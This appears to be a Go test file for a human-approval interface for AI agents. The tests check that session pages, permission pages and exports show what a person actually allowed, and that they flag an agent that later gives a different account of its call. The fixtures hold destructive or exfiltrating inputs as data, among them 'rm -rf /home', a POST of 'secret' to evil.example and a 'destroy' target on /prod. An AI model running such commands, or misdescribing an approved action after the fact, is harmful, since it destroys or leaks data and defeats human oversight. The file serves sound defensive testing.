package handlers

import (
	"net/http"
	"strings"
	"testing"

	"holdfast/journal"
	"holdfast/store"
	"holdfast/store/storetest"
)

// ownCall is an agent's own call, as it tells of it at first.
func ownCall(r *storetest.Run, att, id, tool, input string) *journal.CallProposed {
	b := r.Propose(id, journal.EffectEffect)
	b.AttemptID, b.Tool, b.Input, b.InputSHA256 = &att, tool, []byte(input), journal.Hash(input)
	return b
}

// askFor asks for a call of an agent's own, as a run does.
func askFor(id string, c *journal.CallProposed, command string, whole bool) *journal.PermissionAsked {
	a := storetest.Ask(id, c.CallID)
	more := ""
	if whole {
		more = `,"whole":true`
	}
	a.Metadata = []byte(`{"tool":"` + c.Tool + `","command":"` + command + `","ask":7,"input_sha256":"` + c.InputSHA256 + `"` + more + `}`)
	return a
}

// Nothing says that somebody allowed what came after the answer: each page shows what
// was asked and let run, and what the agent said later as that.
//
// proves PER-2 PER-4 RDR-1
func TestPages_ShowWhatWasAllowed(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		r := w.run(t, w.alice)
		att, call, ask := attempt(t, w, r), store.NewID("call"), store.NewID("per")
		own := ownCall(r, att, call, "execute", `{"title":"make nice","kind":"execute","input":{"command":"make nice","stdin":"yes"}}`)
		storetest.MustAppend(t, w.store, r.Claim, "", own, askFor(ask, own, "make nice", true))
		if _, err := w.store.Decide(t.Context(), r.Owner, ask, store.Decision{Reply: journal.ReplyOnce, Digest: "d1"}); err != nil {
			t.Fatal(err)
		}
		storetest.MustAppend(t, w.store, r.Claim, "",
			&journal.CallDispatched{CallID: call, N: 1, AllowedBy: journal.AllowedBy{Type: journal.AllowedByPerson, ID: r.Owner}},
			&journal.CallContradicted{CallID: call, Late: journal.LateDispatched, InputSHA256: "s", Input: []byte(`{"title":"x","kind":"execute","input":{"command":"rm -rf /home"}}`)},
			&journal.CallDescribed{CallID: call, Late: journal.LateDispatched, InputSHA256: "s", Input: []byte(`{"title":"y","kind":"execute","input":{"command":"make nice"}}`)},
			storetest.Settle(call, journal.CallSucceeded))
		b := w.tab(t, w.alice).open("/sessions/" + r.Session).page().want(http.StatusOK)
		rows := map[string]string{}
		for _, li := range b.doc.Find("ol.journal > li:not([hidden])").EachIter() {
			rows[li.AttrOr("data-kind", "")] = squeeze(li.Text())
		}
		for kind, want := range map[string]string{
			"call.proposed": "The agent proposed make nice", "permission.asked": "make nice Read the request", "call.dispatched": "Started make nice allowed by you", "call.settled": "Ran make nice",
			"call.contradicted": "The agent says something else of its call now: rm -rf /home That is not what was let run: make nice.",
		} {
			if got := rows[kind]; !strings.Contains(got, want) || strings.Contains(got, "rm -rf") != (kind == "call.contradicted") {
				t.Errorf("the row of %s says %q, want %q", kind, got, want)
			}
		}
		b.open("/permissions/"+ask).page().want(http.StatusOK, "allowed this once")
		if got := b.find("payload"); got != "make nice" {
			t.Errorf("the request's page shows %q", got)
		}
		if got := b.find("agent-says"); !strings.Contains(squeeze(got), "stdinyes") {
			t.Errorf("the facts that were asked are %q", got)
		}
		b.open("/calls/" + call).page().want(http.StatusOK)
		if got := squeeze(b.doc.Find(`[data-testid="payload"]`).First().Text()); got != "make nice" || !strings.Contains(b.doc.Find("h1").Text(), "make nice") {
			t.Errorf("the call's page shows %q", got)
		}
		if got := squeeze(b.find("call-later")); !strings.Contains(got, "rm -rf /home") || !strings.Contains(got, "What was let run is what “What it does” says") {
			t.Errorf("what was said later is %q", got)
		}
		_, body := w.markdown(t, r.Session)
		body = body[strings.Index(body, "## Commands run"):strings.Index(body, "## Journal")]
		first, later, said := strings.Cut(body, "After it was let run as it stands above, the agent said something else of it.")
		if !said || !strings.Contains(first, "make nice") || strings.Contains(first, "rm -rf") || !strings.Contains(later, "rm -rf /home") {
			t.Errorf("the export says %s", body)
		}
	})
}

// What an agent says of a call after somebody allowed it, and before it is let run, is no
// part of what was asked: the request shows its own words, and another asks.
//
// proves PER-2 PER-6
func TestPages_ShowWhatWasAskedAtFirst(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		r := w.run(t, w.alice)
		att, call, ask := attempt(t, w, r), store.NewID("call"), store.NewID("per")
		own := ownCall(r, att, call, "edit", `{"title":"Edit","kind":"edit","input":{"command":"make nice","stdin":"yes"}}`)
		storetest.MustAppend(t, w.store, r.Claim, "", own, askFor(ask, own, "make nice", false))
		contradict := &journal.CallContradicted{CallID: call, Late: journal.LateAsked, InputSHA256: "s", Input: []byte(`{"title":"x","kind":"execute","input":{"command":"rm -rf /home"}}`)}
		storetest.MustAppend(t, w.store, r.Claim, "", contradict)
		b := w.tab(t, w.alice)
		for _, path := range []string{"/sessions/" + r.Session, "/permissions/" + ask} {
			b.open(path).page().want(http.StatusOK)
			if card := b.find("decision-card"); strings.Contains(card, "rm -rf") || !strings.Contains(card, "make nice") || b.doc.Find(`[data-testid="decision-form"]`).Length() != 0 || b.find("changed") == "" {
				t.Errorf("%s: the card says %q", path, squeeze(card))
			}
		}
		if _, err := w.store.Decide(t.Context(), r.Owner, ask, store.Decision{Reply: journal.ReplyOnce, Digest: "d1"}); err != nil {
			t.Fatal(err)
		}
		if got := b.open("/permissions/" + ask).page().find("payload"); got != "make nice" || !strings.Contains(b.find("changed"), "described its call anew") {
			t.Errorf("the answered request shows %q", got)
		}
		if got := squeeze(b.find("agent-says")); !strings.Contains(got, "stdinyes") {
			t.Errorf("beside what was decided on stands %q", got)
		}
		_, body := w.markdown(t, r.Session)
		body = body[strings.Index(body, "## Decisions by people"):strings.Index(body, "## Commands run")]
		if strings.Contains(body, "rm -rf") || !strings.Contains(body, "make nice") || !strings.Contains(body, "The agent says, `stdin`") {
			t.Errorf("the export says %s", body)
		}
		b.open("/sessions/" + r.Session).page()
		if got := squeeze(b.doc.Find(`li[data-kind="call.contradicted"]`).Text()); !strings.Contains(got, "rm -rf /home That is not what was asked before.") {
			t.Errorf("the row says %q", got)
		}
	})
}

// A row offers an answer only where all that is asked stands in it.
//
// proves PER-2
func TestPages_NeedsYouShowsAllOrLeads(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		r := w.run(t, w.alice)
		att := attempt(t, w, r)
		want := map[string]bool{}
		ask := func(tool, input, command string, whole bool) {
			own, id := ownCall(r, att, store.NewID("call"), tool, input), store.NewID("per")
			storetest.MustAppend(t, w.store, r.Claim, "", own, askFor(id, own, command, whole))
			want[id] = whole
		}
		ask("fetch", `{"title":"Fetch docs","kind":"fetch","input":{"url":"http://evil.example/precious","method":"POST","body":"secret"}}`, "Fetch docs", false)
		ask("execute", `{"title":"make","kind":"execute","input":{"command":"make","args":["-C","/prod","destroy"],"stdin":"yes"}}`, "make", false)
		ask("execute", `{"title":"make","kind":"execute","input":{"command":"make"}}`, "make", true)
		b := w.tab(t, w.alice).open("/needs-you").page().want(http.StatusOK)
		for id, buttons := range want {
			row := b.doc.Find(`[data-testid="inbox-row"]`).Has(`a[href="/permissions/` + id + `"]`)
			if row.Length() != 1 || (row.Find("form").Length() == 1) != buttons {
				t.Errorf("%q has buttons %v, want %v", squeeze(row.Text()), !buttons, buttons)
			}
		}
	})
}
